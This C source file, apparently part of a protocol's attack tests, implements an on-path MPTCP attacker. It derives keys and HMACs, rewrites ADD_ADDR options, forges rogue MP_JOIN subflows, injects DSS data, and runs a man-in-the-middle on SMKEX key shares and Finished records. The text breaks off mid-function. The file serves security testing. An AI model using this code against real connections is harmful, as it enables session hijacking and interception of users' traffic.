// SPDX-License-Identifier: GPL-2.0
/*
 * An MPTCP-aware active attacker on path 1, for the attack tests. Like
 * attacker.c it takes the TCP packets that a netfilter rule queues (NFQUEUE)
 * in path 1's forwarding namespace, but it follows one MPTCP connection (the
 * first MP_CAPABLE SYN it sees; others pass untouched) and all its subflows.
 * From MP_CAPABLE (v1, RFC 8684) it learns both keys, hence both tokens and
 * IDSNs and every HMAC; from DSS options the data sequence number of every
 * segment (DSS checksums must be off). It fixes the TCP checksum of every
 * packet it changes, and sends its own packets with a raw socket. One mode
 * per run:
 *
 *  --steer-add-addr A.B.C.D [--deny-join-id0] [--mitm]
 *      Rewrites the address of every ADD_ADDR from the server to A.B.C.D
 *      with a valid HMAC (and restores the client's echo); --deny-join-id0
 *      sets the C flag in the server's MP_CAPABLE SYN/ACK; --mitm replaces
 *      the SMKEX key shares X and Y with its own and, when the channel-2
 *      records cross path 1 too, the binding hash h and the client's Finished
 *      (Documentation/protocol.md §3-§4), found by their data sequence numbers.
 *  --rogue-join SRC --payload HEX --dsn-offset N [--rst-after]
 *      Opens its own MP_JOIN subflow to the server from SRC (whose return
 *      route crosses path 1: the tool drops and answers those packets itself)
 *      and sends HEX on it, mapped at the client's IDSN+1+N; --rst-after
 *      resets that subflow once the server acknowledged the data.
 *  --inject-dss --payload HEX --dsn-offset N
 *      Injects HEX on subflow 1, client to server, at the client's next
 *      subflow sequence number, mapped at the client's IDSN+1+N.
 *  --when-seen N delays the last two until at least N client-to-server bytes
 *      went through subflow 1.
 *
 * Prints "ready" on stdout once bound to the queue; on SIGTERM/SIGINT prints
 * its counters as "name value" lines (and the SMKEX session keys it derived)
 * and exits 0. IPv4 only: IPv6 packets pass untouched.
 *
 * A join steered by a DNAT rule in the same namespace is recognised by its
 * destination A.B.C.D if the queue sits before the DNAT (prerouting, priority
 * below -100); after it (forward hook), by its reaching the server's initial
 * address once the client echoed the steered ADD_ADDR.
 */
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <errno.h>
#include <getopt.h>
#include <netinet/in.h>
#include <netinet/ip.h>
#include <netinet/tcp.h>
#include <poll.h>
#include <signal.h>
#include <stdbool.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <time.h>
#include <unistd.h>

#include <libmnl/libmnl.h>
#include <linux/netfilter.h>
#include <linux/netfilter/nfnetlink.h>
#include <linux/netfilter/nfnetlink_queue.h>
#include <libnetfilter_queue/libnetfilter_queue.h>

#include <openssl/crypto.h>
#include <openssl/evp.h>
#include <openssl/hmac.h>
#include <openssl/rand.h>
#include <openssl/sha.h>

#define TH_FIN 0x01
#define TH_SYN 0x02
#define TH_RST 0x04
#define TH_PSH 0x08
#define TH_ACK 0x10

#define MPTCP_KIND 30
#define MPC_DENY_JOIN_ID0 0x20
#define DSS_FIN 0x10
#define DSS_DSN64 0x08
#define DSS_MAP 0x04
#define DSS_ACK64 0x02
#define DSS_ACK 0x01

#define NSUB 8			/* subflows followed */
#define NMAP 16			/* mappings remembered per direction of a subflow */
#define SMAX 512		/* first bytes of each MPTCP stream kept for SMKEX */
#define NREC 16
#define NL_BUF (65536 + 8192)	/* a queued packet and its netlink headers */

/* ---- counters ---- */

static struct {
	unsigned long packets, conn_tracked, keys_learned, c_flag_set;
	unsigned long add_addr_seen, add_addr_rewritten, add_addr_hmac_verified, add_addr_echo_restored;
	unsigned long join_syn_seen, join_hmac_verified, steered_join_syn;
	unsigned long records_rewritten, mitm_server_h_match, mitm_client_finished_match;
	unsigned long rogue_join_established, rogue_data_sent, rogue_data_acked, rogue_rst_sent;
	unsigned long rogue_rst_received, rogue_dropped, dss_injected;
} cnt;

#define COUNTER(x) { #x, &cnt.x }
static const struct {
	const char *name;
	unsigned long *value;
} counters[] = {
	COUNTER(packets), COUNTER(conn_tracked), COUNTER(keys_learned), COUNTER(c_flag_set),
	COUNTER(add_addr_seen), COUNTER(add_addr_rewritten), COUNTER(add_addr_hmac_verified),
	COUNTER(add_addr_echo_restored), COUNTER(join_syn_seen), COUNTER(join_hmac_verified),
	COUNTER(steered_join_syn), COUNTER(records_rewritten), COUNTER(mitm_server_h_match),
	COUNTER(mitm_client_finished_match), COUNTER(rogue_join_established),
	COUNTER(rogue_data_sent), COUNTER(rogue_data_acked), COUNTER(rogue_rst_sent),
	COUNTER(rogue_rst_received), COUNTER(rogue_dropped), COUNTER(dss_injected),
};

/* ---- options ---- */

static int queue_num;
static bool opt_steer, opt_deny, opt_mitm, opt_rogue, opt_rst_after, opt_inject;
static uint8_t steer_addr[4];
static uint32_t rogue_src;		/* network order */
static uint8_t rogue_id = 42;
static uint8_t payload[1024];
static size_t payload_len;
static uint64_t dsn_offset;
static uint64_t when_seen;
static volatile sig_atomic_t stop;

/* ---- byte helpers ---- */

static uint16_t get16(const uint8_t *p) { return (uint16_t)(p[0] << 8 | p[1]); }
static uint32_t get32(const uint8_t *p) { return (uint32_t)get16(p) << 16 | get16(p + 2); }
static uint64_t get64(const uint8_t *p) { return (uint64_t)get32(p) << 32 | get32(p + 4); }
static void put16(uint8_t *p, uint16_t v) { p[0] = v >> 8; p[1] = v; }
static void put32(uint8_t *p, uint32_t v) { put16(p, v >> 16); put16(p + 2, v); }
static void put64(uint8_t *p, uint64_t v) { put32(p, v >> 32); put32(p + 4, v); }

static int parse_hex(const char *hex, uint8_t *out, size_t max, size_t *len)
{
	size_t n = strlen(hex);

	if (n == 0 || n % 2 || n / 2 > max)
		return -1;
	for (size_t i = 0; i < n / 2; i++)
		if (sscanf(hex + 2 * i, "%2hhx", &out[i]) != 1)
			return -1;
	*len = n / 2;
	return 0;
}

static const char *hex(const uint8_t *p, size_t n)
{
	static char buf[2 * 64 + 1];

	if (n > 64)
		n = 64;
	for (size_t i = 0; i < n; i++)
		sprintf(buf + 2 * i, "%02x", p[i]);
	buf[2 * n] = 0;
	return buf;
}

static double now(void)
{
	struct timespec ts;

	clock_gettime(CLOCK_MONOTONIC, &ts);
	return ts.tv_sec + ts.tv_nsec / 1e9;
}

static uint32_t csum_add(uint32_t sum, const void *data, size_t len)
{
	const uint8_t *p = data;

	for (; len > 1; p += 2, len -= 2)
		sum += get16(p);
	if (len)
		sum += (uint32_t)p[0] << 8;
	return sum;
}

static uint16_t csum_fold(uint32_t sum)
{
	while (sum >> 16)
		sum = (sum & 0xffff) + (sum >> 16);
	return (uint16_t)~sum;
}

/* Recomputes the TCP checksum of an IPv4 packet (tcp_len: header + data). */
static void tcp_csum(struct iphdr *ip, struct tcphdr *th, size_t tcp_len)
{
	uint32_t sum = 0;

	th->check = 0;
	sum = csum_add(sum, &ip->saddr, 4);
	sum = csum_add(sum, &ip->daddr, 4);
	sum += IPPROTO_TCP + tcp_len;
	sum = csum_add(sum, th, tcp_len);
	th->check = htons(csum_fold(sum));
}

/* ---- MPTCP crypto (RFC 8684 §3.1, §3.2, §3.4.1) ---- */

static void key_sha(const uint8_t key[8], uint32_t *token, uint64_t *idsn)
{
	uint8_t d[SHA256_DIGEST_LENGTH];

	SHA256(key, 8, d);
	*token = get32(d);
	*idsn = get64(d + 24);
}

static void mptcp_hmac(const uint8_t k1[8], const uint8_t k2[8], const uint8_t *msg, size_t len,
		       uint8_t out[32])
{
	uint8_t key[16];
	unsigned int olen = 32;

	memcpy(key, k1, 8);
	memcpy(key + 8, k2, 8);
	HMAC(EVP_sha256(), key, sizeof(key), msg, len, out, &olen);
}

/* ---- SMKEX key schedule (Documentation/protocol.md §4) ---- */

struct keys {
	uint8_t h[32], z[32], prk[32], session[32], finished_key[32], exporter[32], finished[32];
};

static void hkdf_expand32(const uint8_t prk[32], const char *label, const uint8_t h[32],
			  uint8_t out[32])
{
	uint8_t info[64 + 32 + 1];
	size_t l = strlen(label);
	unsigned int olen = 32;

	memcpy(info, label, l);
	memcpy(info + l, h, 32);
	info[l + 32] = 1;
	HMAC(EVP_sha256(), prk, 32, info, l + 33, out, &olen);
}

static void binding_hash(const uint8_t x[32], const uint8_t nc[32], const uint8_t y[32],
			 const uint8_t ns[32], uint8_t h[32])
{
	static const char label[] = "smkex v1 binding hash";
	uint8_t in[sizeof(label) - 1 + 128];

	memcpy(in, label, sizeof(label) - 1);
	memcpy(in + sizeof(label) - 1, x, 32);
	memcpy(in + sizeof(label) - 1 + 32, nc, 32);
	memcpy(in + sizeof(label) - 1 + 64, y, 32);
	memcpy(in + sizeof(label) - 1 + 96, ns, 32);
	SHA256(in, sizeof(in), h);
}

static EVP_PKEY *x25519_new(const uint8_t *priv, uint8_t pub[32])
{
	EVP_PKEY *key = NULL;
	size_t len = 32;

	if (priv) {
		key = EVP_PKEY_new_raw_private_key(EVP_PKEY_X25519, NULL, priv, 32);
	} else {
		EVP_PKEY_CTX *ctx = EVP_PKEY_CTX_new_id(EVP_PKEY_X25519, NULL);

		if (ctx && EVP_PKEY_keygen_init(ctx) > 0)
			EVP_PKEY_keygen(ctx, &key);
		EVP_PKEY_CTX_free(ctx);
	}
	if (key && EVP_PKEY_get_raw_public_key(key, pub, &len) <= 0) {
		EVP_PKEY_free(key);
		key = NULL;
	}
	return key;
}

static bool x25519(EVP_PKEY *priv, const uint8_t peer[32], uint8_t z[32])
{
	EVP_PKEY *p = EVP_PKEY_new_raw_public_key(EVP_PKEY_X25519, NULL, peer, 32);
	EVP_PKEY_CTX *ctx = EVP_PKEY_CTX_new(priv, NULL);
	size_t len = 32;
	bool ok = p && ctx && EVP_PKEY_derive_init(ctx) > 0 && EVP_PKEY_derive_set_peer(ctx, p) > 0 &&
		  EVP_PKEY_derive(ctx, z, &len) > 0 && len == 32;

	EVP_PKEY_CTX_free(ctx);
	EVP_PKEY_free(p);
	return ok;
}

/*
 * One side's view: it holds priv, its peer's share is peer; the transcript
 * is x, nc, y, ns. Fails on an all-zero Z.
 */
static bool smkex_keys(EVP_PKEY *priv, const uint8_t peer[32], const uint8_t x[32],
		       const uint8_t nc[32], const uint8_t y[32], const uint8_t ns[32], struct keys *k)
{
	static const char fin_label[] = "smkex v1 client finished";
	uint8_t salt[64], msg[sizeof(fin_label) - 1 + 32];
	unsigned int olen = 32;

	if (!x25519(priv, peer, k->z))
		return false;
	binding_hash(x, nc, y, ns, k->h);
	memcpy(salt, nc, 32);
	memcpy(salt + 32, ns, 32);
	HMAC(EVP_sha256(), salt, sizeof(salt), k->z, 32, k->prk, &olen);
	hkdf_expand32(k->prk, "smkex v1 session key", k->h, k->session);
	hkdf_expand32(k->prk, "smkex v1 finished key", k->h, k->finished_key);
	hkdf_expand32(k->prk, "smkex v1 exporter secret", k->h, k->exporter);
	memcpy(msg, fin_label, sizeof(fin_label) - 1);
	memcpy(msg + sizeof(fin_label) - 1, k->h, 32);
	HMAC(EVP_sha256(), k->finished_key, 32, msg, sizeof(msg), k->finished, &olen);
	return true;
}

/* The protocol.md §9 vectors: checks the key schedule above. */
static int self_test(void)
{
	static const char *const v[] = {
		"77076d0a7318a57d3c16c17251b26645df4c2f87ebc0992ab177fba51db92c2a",	/* x */
		"5dab087e624a8a4b79e17f8b83800ee66f3bb1292618b6fd1c2f8b27ff88e0eb",	/* y */
		"4a5d9d5ba4ce2de1728e3bf480350f25e07e21c947d19e3376f09b3c1e161742",	/* Z */
		"b737c2830a62b97f60ea7b365cc736368275f3faa3b20eb8b26c9d38a6d4fc90",	/* h */
		"9d30dbf5d8194f14b55c2ce3afb91df75dbd94cb005ba32071c43731fbfee4ce",	/* session */
		"44d85e9bfb3dc208e77faa3d6fbfd45eb0a57f75e610437b10bda9e11366fc43",	/* finished */
	};
	uint8_t b[6][32], x[32], y[32], nc[32], ns[32];
	struct keys kc, ks;
	EVP_PKEY *px, *py;
	size_t len;
	bool ok;

	for (int i = 0; i < 6; i++)
		if (parse_hex(v[i], b[i], 32, &len))
			return 1;
	for (int i = 0; i < 32; i++) {
		nc[i] = i;
		ns[i] = 32 + i;
	}
	px = x25519_new(b[0], x);
	py = x25519_new(b[1], y);
	ok = px && py && smkex_keys(px, y, x, nc, y, ns, &kc) && smkex_keys(py, x, x, nc, y, ns, &ks);
	ok = ok && !memcmp(kc.z, b[2], 32) && !memcmp(kc.h, b[3], 32) &&
	     !memcmp(kc.session, b[4], 32) && !memcmp(kc.finished, b[5], 32) &&
	     !memcmp(&kc, &ks, sizeof(kc));
	EVP_PKEY_free(px);
	EVP_PKEY_free(py);
	printf("self_test %s\n", ok ? "ok" : "FAILED");
	return ok ? 0 : 1;
}

/* ---- connection state ---- */

struct mapping {
	uint64_t dsn;
	uint32_t ssn;		/* relative to the subflow's ISN */
	uint32_t len;
};

struct half {			/* one direction of one subflow */
	bool isn_known, ack_known, ts_known;
	uint32_t isn, nxt, ack, tsval, tsecr, nonce;
	uint16_t win;
	struct mapping maps[NMAP];
	int nmaps, next_map;
};

struct subflow {
	bool used;
	uint32_t caddr, saddr;	/* network order, as seen in the queue */
	uint16_t cport, sport;	/* network order */
	struct half c2s, s2c;
};

struct record {
	uint32_t off;
	uint8_t type;
	uint16_t len;
	bool rewritten;
};

struct stream {			/* the first SMAX bytes of one direction, by DSN */
	uint8_t buf[SMAX], have[SMAX];
	struct record recs[NREC];
	int nrecs;
	uint64_t ref;		/* for 32-bit DSN expansion */
};

static struct {
	bool active, ckey_known, skey_known, keys;
	uint8_t ckey[8], skey[8];
	uint32_t ctoken, stoken;
	uint64_t cidsn, sidsn;
	bool cack_known;
	uint64_t cack;		/* the client's latest data ACK */
	struct subflow sf[NSUB];
	bool orig_known[256];
	uint8_t orig_addr[256][4];
	bool steer_echoed;
	struct stream c2s, s2c;
} conn;

static int add_addr_variant = -1;	/* which HMAC layout the server uses */

/* ---- man in the middle on the SMKEX records ---- */

static EVP_PKEY *mitm_kx, *mitm_ky;	/* ours: X' towards the server, Y' towards the client */
static uint8_t mitm_x[32], mitm_y[32];
static struct keys ks_client, ks_server;	/* what each side derives */
static bool ks_client_ok, ks_server_ok, h_checked, fin_checked;
static const uint16_t rec_len[6] = { 0, 32, 32, 32, 64, 32 };

static struct record *rec_at(struct stream *s, uint32_t off)
{
	for (int i = 0; i < s->nrecs; i++)
		if (off >= s->recs[i].off && off < s->recs[i].off + 4 + s->recs[i].len)
			return &s->recs[i];
	return NULL;
}

static struct record *rec_type(struct stream *s, uint8_t type)
{
	for (int i = 0; i < s->nrecs; i++)
		if (s->recs[i].type == type)
			return &s->recs[i];
	return NULL;
}

static bool have_range(struct stream *s, uint32_t off, uint32_t len)
{
	if (off + len > SMAX)
		return false;
	for (uint32_t i = 0; i < len; i++)
		if (!s->have[off + i])
			return false;
	return true;
}

/* A record body that arrived in full, or NULL. */
static const uint8_t *rec_body(struct stream *s, uint8_t type)
{
	struct record *r = rec_type(s, type);

	return r && have_range(s, r->off + 4, r->len) ? s->buf + r->off + 4 : NULL;
}

/* Follows the record headers from off, as far as the bytes go. */
static void rec_chain(struct stream *s, uint32_t off, bool c2s)
{
	while (off + 4 <= SMAX && s->nrecs < NREC) {
		struct record *r = rec_at(s, off);
		const uint8_t *p = s->buf + off;
		uint8_t t;

		if (r) {
			if (r->off != off)
				return;
			off += 4 + r->len;
			continue;
		}
		if (!have_range(s, off, 4))
			return;
		t = p[0];
		if (t < 1 || t > 5 || p[1] != 1 || get16(p + 2) != rec_len[t] ||
		    c2s != (t == 1 || t == 2 || t == 5))
			return;
		s->recs[s->nrecs++] = (struct record){ .off = off, .type = t, .len = rec_len[t] };
		fprintf(stderr, "mptcp_attacker: %s record type %u at stream offset %u\n",
			c2s ? "client" : "server", t, off);
		off += 4 + rec_len[t];
	}
}

static void mitm_update(void)
{
	const uint8_t *x = rec_body(&conn.c2s, 1), *nc = rec_body(&conn.c2s, 2);
	const uint8_t *y = rec_body(&conn.s2c, 3), *ns = NULL, *b;
	struct record *r4 = rec_type(&conn.s2c, 4);

	if (r4 && have_range(&conn.s2c, r4->off + 4, 32))
		ns = conn.s2c.buf + r4->off + 4;
	if (!ks_client_ok && x && nc && ns) {
		/* The client: X, N_C, our Y', N_S; Z = X25519(y', X). */
		ks_client_ok = smkex_keys(mitm_ky, x, x, nc, mitm_y, ns, &ks_client);
		fprintf(stderr, "mptcp_attacker: client-side keys %s\n", ks_client_ok ? "derived" : "failed");
	}
	if (!ks_server_ok && y && nc && ns) {
		/* The server: our X', N_C, Y, N_S; Z = X25519(x', Y). */
		ks_server_ok = smkex_keys(mitm_kx, y, mitm_x, nc, y, ns, &ks_server);
		fprintf(stderr, "mptcp_attacker: server-side keys %s\n", ks_server_ok ? "derived" : "failed");
	}
	if (ks_server_ok && !h_checked && (b = rec_body(&conn.s2c, 4))) {
		h_checked = true;
		cnt.mitm_server_h_match = !memcmp(b + 32, ks_server.h, 32);
	}
	if (ks_client_ok && !fin_checked && (b = rec_body(&conn.c2s, 5))) {
		fin_checked = true;
		cnt.mitm_client_finished_match = !memcmp(b, ks_client.finished, 32);
	}
}

/*
 * Rewrites the record bytes of one segment (stream offset off, n bytes at p,
 * already fed to the stream). Returns -1 if the segment must be dropped
 * because its replacement is not known yet (the sender will retransmit).
 */
static int mitm_rewrite(struct stream *s, bool c2s, uint32_t off, uint8_t *p, uint32_t n)
{
	int changed = 0;

	for (int i = 0; i < s->nrecs; i++) {
		struct record *r = &s->recs[i];
		uint32_t from = 0, to = 32;	/* the part of the body to replace */
		const uint8_t *rep = NULL;

		switch (r->type) {
		case 1:
			rep = mitm_x;
			break;
		case 3:
			rep = mitm_y;
			break;
		case 4:
			from = 32;
			to = 64;
			if (ks_client_ok)
				rep = ks_client.h;
			else if (have_range(s, r->off + 4, 32))
				continue;	/* X or N_C never crossed path 1 */
			break;		/* N_S is not complete yet: drop below */
		case 5:
			if (!ks_server_ok)
				continue;	/* Y, N_C or N_S never crossed path 1 */
			rep = ks_server.finished;
			break;
		default:
			continue;
		}
		from += r->off + 4;
		to += r->off + 4;
		if (to <= off || from >= off + n)
			continue;
		if (!rep)
			return -1;
		for (uint32_t o = from > off ? from : off; o < to && o < off + n; o++) {
			p[o - off] = rep[o - from];
			changed++;
		}
		if (!r->rewritten) {
			r->rewritten = true;
			cnt.records_rewritten++;
			fprintf(stderr, "mptcp_attacker: rewrote %s record type %u\n",
				c2s ? "client" : "server", r->type);
		}
	}
	return changed;
}

static void stream_feed(struct stream *s, bool c2s, uint32_t off, const uint8_t *p, uint32_t n)
{
	for (uint32_t i = 0; i < n && off + i < SMAX; i++)
		if (!s->have[off + i]) {
			s->buf[off + i] = p[i];
			s->have[off + i] = 1;
		}
	rec_chain(s, 0, c2s);
	if (!rec_at(s, off))
		rec_chain(s, off, c2s);	/* resynchronise after a gap (path 2 bytes) */
}

/* ---- TCP/MPTCP parsing ---- */

struct opts {
	uint8_t *mpc, *mpj, *dss, *add, *ts;
	int mpc_len, mpj_len, dss_len, add_len;
};

static void parse_opts(uint8_t *o, int len, struct opts *r)
{
	memset(r, 0, sizeof(*r));
	for (int i = 0; i < len;) {
		int l;

		if (o[i] == 0)
			break;
		if (o[i] == 1) {
			i++;
			continue;
		}
		if (i + 1 >= len || (l = o[i + 1]) < 2 || i + l > len)
			break;
		if (o[i] == 8 && l == 10)
			r->ts = o + i;
		if (o[i] == MPTCP_KIND && l >= 3) {
			switch (o[i + 2] >> 4) {
			case 0:
				r->mpc = o + i;
				r->mpc_len = l;
				break;
			case 1:
				r->mpj = o + i;
				r->mpj_len = l;
				break;
			case 2:
				r->dss = o + i;
				r->dss_len = l;
				break;
			case 3:
				r->add = o + i;
				r->add_len = l;
				break;
			}
		}
		i += l;
	}
}

struct dss {
	bool ack, map, fin;
	uint64_t data_ack, dsn;
	bool ack64, dsn64;
	uint32_t ssn;
	uint16_t len;
};

static bool parse_dss(const uint8_t *o, int l, struct dss *d)
{
	uint8_t f = o[3];
	int want = 4;
	const uint8_t *p = o + 4;

	memset(d, 0, sizeof(*d));
	if (l < 4)
		return false;
	if (f & DSS_ACK)
		want += f & DSS_ACK64 ? 8 : 4;
	if (f & DSS_MAP)
		want += f & DSS_DSN64 ? 14 : 10;
	if (l != want && l != want + 2)
		return false;
	if (f & DSS_ACK) {
		d->ack = true;
		d->ack64 = f & DSS_ACK64;
		d->data_ack = d->ack64 ? get64(p) : get32(p);
		p += d->ack64 ? 8 : 4;
	}
	if (f & DSS_MAP) {
		d->map = true;
		d->fin = f & DSS_FIN;
		d->dsn64 = f & DSS_DSN64;
		d->dsn = d->dsn64 ? get64(p) : get32(p);
		p += d->dsn64 ? 8 : 4;
		d->ssn = get32(p);
		d->len = get16(p + 4);
	}
	return true;
}

static uint64_t expand32(uint64_t ref, uint32_t low)
{
	uint64_t c = (ref & ~0xffffffffULL) | low;

	if ((int64_t)(c - ref) > (int64_t)0x80000000LL)
		c -= 1ULL << 32;
	else if ((int64_t)(ref - c) > (int64_t)0x80000000LL)
		c += 1ULL << 32;
	return c;
}

static void add_map(struct half *h, uint64_t dsn, uint32_t ssn, uint32_t len)
{
	for (int i = 0; i < h->nmaps; i++)
		if (h->maps[i].dsn == dsn && h->maps[i].ssn == ssn && h->maps[i].len == len)
			return;
	h->maps[h->next_map] = (struct mapping){ dsn, ssn, len };
	h->next_map = (h->next_map + 1) % NMAP;
	if (h->nmaps < NMAP)
		h->nmaps++;
}

/* The DSN of a segment's first byte, and how many of its bytes the mapping covers. */
static bool seg_dsn(struct half *h, uint32_t seq, uint32_t plen, uint64_t *dsn, uint32_t *n)
{
	uint32_t rel = seq - h->isn;

	if (!h->isn_known)
		return false;
	for (int k = 1; k <= h->nmaps; k++) {
		struct mapping *m = &h->maps[(h->next_map - k + NMAP) % NMAP];

		if (rel - m->ssn < m->len) {
			*dsn = m->dsn + (rel - m->ssn);
			*n = m->ssn + m->len - rel;
			if (*n > plen)
				*n = plen;
			return true;
		}
	}
	return false;
}

static bool after(uint32_t a, uint32_t b)
{
	return (int32_t)(a - b) > 0;
}

/* ---- packets we send ---- */

static int raw_fd = -1;

static void send_tcp(uint32_t src, uint32_t dst, uint16_t sport, uint16_t dport, uint32_t seq,
		     uint32_t ack, uint8_t flags, uint16_t win, const uint8_t *opt, int optlen,
		     const uint8_t *data, size_t len)
{
	uint8_t buf[20 + 60 + sizeof(payload)] = { 0 };
	struct iphdr *ip = (struct iphdr *)buf;
	struct tcphdr *th = (struct tcphdr *)(buf + 20);
	size_t tot = 20 + 20 + optlen + len;
	struct sockaddr_in sin = { .sin_family = AF_INET, .sin_addr.s_addr = dst };
	uint16_t id;

	RAND_bytes((uint8_t *)&id, sizeof(id));
	ip->version = 4;
	ip->ihl = 5;
	ip->tot_len = htons(tot);
	ip->id = id;
	ip->frag_off = htons(IP_DF);
	ip->ttl = 64;
	ip->protocol = IPPROTO_TCP;
	ip->saddr = src;
	ip->daddr = dst;
	ip->check = htons(csum_fold(csum_add(0, ip, 20)));
	th->source = sport;
	th->dest = dport;
	th->seq = htonl(seq);
	th->ack_seq = htonl(ack);
	th->doff = (20 + optlen) / 4;
	buf[20 + 13] = flags;
	th->window = htons(win);
	memcpy(buf + 40, opt, optlen);
	memcpy(buf + 40 + optlen, data, len);
	tcp_csum(ip, th, tot - 20);
	if (sendto(raw_fd, buf, tot, 0, (struct sockaddr *)&sin, sizeof(sin)) < 0)
		perror("mptcp_attacker: sendto");
}

/* A DSS option (padded with NOPs to a multiple of 4): data ACK if known, mapping. */
static int put_dss(uint8_t *o, uint64_t dsn, uint32_t ssn, uint16_t len)
{
	int n;

	o[0] = o[1] = 1;
	o[2] = MPTCP_KIND;
	o[4] = 2 << 4;
	o[5] = DSS_MAP | DSS_DSN64;
	n = 6;
	if (conn.cack_known) {
		o[5] |= DSS_ACK | DSS_ACK64;
		put64(o + n, conn.cack);
		n += 8;
	}
	put64(o + n, dsn);
	put32(o + n + 8, ssn);
	put16(o + n + 12, len);
	n += 14;
	o[3] = n - 2;
	return n;
}

/* ---- mode b: the rogue join ---- */

enum { R_IDLE, R_SYN_SENT, R_DATA_SENT, R_DONE };

static struct {
	int state, tries;
	double last;
	uint32_t dst;
	uint16_t port, dport;	/* network order */
	uint32_t isn, irs, nonce, rnonce;
} rogue;

static void rogue_send_syn(void)
{
	uint8_t o[16] = { 2, 4, 0x05, 0xb4, MPTCP_KIND, 12, 1 << 4, 0 };

	o[7] = rogue_id;
	put32(o + 8, conn.stoken);
	put32(o + 12, rogue.nonce);
	send_tcp(rogue_src, rogue.dst, rogue.port, rogue.dport, rogue.isn, 0, TH_SYN, 65535, o,
		 sizeof(o), NULL, 0);
	rogue.last = now();
	rogue.tries++;
}

static void rogue_send_data(void)
{
	uint8_t o[40];
	int n = put_dss(o, conn.cidsn + 1 + dsn_offset, 1, payload_len);

	send_tcp(rogue_src, rogue.dst, rogue.port, rogue.dport, rogue.isn + 1, rogue.irs + 1,
		 TH_ACK | TH_PSH, 65535, o, n, payload, payload_len);
	rogue.last = now();
	rogue.tries++;
}

static void rogue_start(void)
{
	struct subflow *s0 = &conn.sf[0];

	RAND_bytes((uint8_t *)&rogue.isn, sizeof(rogue.isn));
	RAND_bytes((uint8_t *)&rogue.nonce, sizeof(rogue.nonce));
	RAND_bytes((uint8_t *)&rogue.port, sizeof(rogue.port));
	rogue.port = htons(20000 + ntohs(rogue.port) % 40000);
	rogue.dst = s0->saddr;
	rogue.dport = s0->sport;
	rogue.state = R_SYN_SENT;
	rogue.tries = 0;
	fprintf(stderr, "mptcp_attacker: rogue join from port %u\n", ntohs(rogue.port));
	rogue_send_syn();
}

/* A packet from the server to our own subflow: never forwarded. */
static void rogue_rx(struct tcphdr *th, uint8_t flags, struct opts *o)
{
	uint32_t ack = ntohl(th->ack_seq);

	cnt.rogue_dropped++;
	if (flags & TH_RST) {
		if (rogue.state != R_DONE)
			fprintf(stderr, "mptcp_attacker: the server reset the rogue subflow\n");
		cnt.rogue_rst_received++;
		rogue.state = R_DONE;
		return;
	}
	if (rogue.state == R_SYN_SENT && (flags & (TH_SYN | TH_ACK)) == (TH_SYN | TH_ACK) &&
	    ack == rogue.isn + 1 && o->mpj && o->mpj_len == 16) {
		uint8_t msg[8], mac[32], ack_opt[24] = { MPTCP_KIND, 24, 1 << 4, 0 };

		rogue.irs = ntohl(th->seq);
		rogue.rnonce = get32(o->mpj + 12);
		put32(msg, rogue.rnonce);
		put32(msg + 4, rogue.nonce);
		mptcp_hmac(conn.skey, conn.ckey, msg, 8, mac);
		if (memcmp(mac, o->mpj + 4, 8))
			fprintf(stderr, "mptcp_attacker: rogue SYN/ACK HMAC mismatch (continuing)\n");
		put32(msg, rogue.nonce);
		put32(msg + 4, rogue.rnonce);
		mptcp_hmac(conn.ckey, conn.skey, msg, 8, mac);
		memcpy(ack_opt + 4, mac, 20);
		send_tcp(rogue_src, rogue.dst, rogue.port, rogue.dport, rogue.isn + 1, rogue.irs + 1,
			 TH_ACK, 65535, ack_opt, sizeof(ack_opt), NULL, 0);
		cnt.rogue_join_established++;
		fprintf(stderr, "mptcp_attacker: rogue join established, sending %zu bytes at DSN offset %llu\n",
			payload_len, (unsigned long long)dsn_offset);
		rogue.state = R_DATA_SENT;
		rogue.tries = 0;
		rogue_send_data();
		cnt.rogue_data_sent++;
		return;
	}
	if (rogue.state == R_DATA_SENT && (flags & TH_ACK) && !after(rogue.isn + 1 + payload_len, ack)) {
		cnt.rogue_data_acked++;
		fprintf(stderr, "mptcp_attacker: the server acknowledged the rogue data\n");
		rogue.state = R_DONE;
		if (opt_rst_after) {
			send_tcp(rogue_src, rogue.dst, rogue.port, rogue.dport, ack, ntohl(th->seq),
				 TH_RST | TH_ACK, 0, NULL, 0, NULL, 0);
			cnt.rogue_rst_sent++;
		}
	}
}

static void rogue_tick(void)
{
	if (rogue.state != R_SYN_SENT && rogue.state != R_DATA_SENT)
		return;
	if (now() - rogue.last < 1.0)
		return;
	if (rogue.tries >= 6) {
		fprintf(stderr, "mptcp_attacker: rogue join gave up\n");
		rogue.state = R_DONE;
	} else if (rogue.state == R_SYN_SENT) {
		rogue_send_syn();
	} else {
		rogue_send_data();
	}
}

/* ---- mode c: the DSS injection ---- */

static bool injected;

static void inject_dss(void)
{
	struct subflow *s0 = &conn.sf[0];
	struct half *h = &s0->c2s;
	uint8_t o[40];
	int n = 0;

	if (h->ts_known) {
		o[0] = o[1] = 1;
		o[2] = 8;
		o[3] = 10;
		put32(o + 4, h->tsval);
		put32(o + 8, h->tsecr);
		n = 12;
	}
	n += put_dss(o + n, conn.cidsn + 1 + dsn_offset, h->nxt - h->isn, payload_len);
	send_tcp(s0->caddr, s0->saddr, s0->cport, s0->sport, h->nxt, h->ack, TH_ACK | TH_PSH,
		 h->win, o, n, payload, payload_len);
	injected = true;
	cnt.dss_injected++;
	fprintf(stderr, "mptcp_attacker: injected %zu bytes at subflow seq +%u, DSN offset %llu\n",
		payload_len, h->nxt - h->isn, (unsigned long long)dsn_offset);
}

/* After every packet and on every tick: the rogue join or the injection, when due. */
static void maybe_act(void)
{
	struct half *h = &conn.sf[0].c2s;

	if (!conn.keys || !h->isn_known || (uint32_t)(h->nxt - h->isn - 1) < when_seen)
		return;
	if (opt_rogue && rogue.state == R_IDLE)
		rogue_start();
	if (opt_inject && !injected && h->ack_known)
		inject_dss();
}

/* ---- per-packet work ---- */

static struct subflow *find_subflow(uint32_t src, uint16_t sp, uint32_t dst, uint16_t dp, bool *c2s)
{
	/* The server's address is not compared: a DNAT may change it between directions. */
	for (int i = 0; i < NSUB; i++) {
		struct subflow *s = &conn.sf[i];

		if (!s->used)
			continue;
		if (src == s->caddr && sp == s->cport && dp == s->sport) {
			*c2s = true;
			return s;
		}
		if (dst == s->caddr && dp == s->cport && sp == s->sport) {
			*c2s = false;
			return s;
		}
	}
	return NULL;
}

static struct subflow *new_subflow(uint32_t caddr, uint16_t cport, uint32_t saddr, uint16_t sport)
{
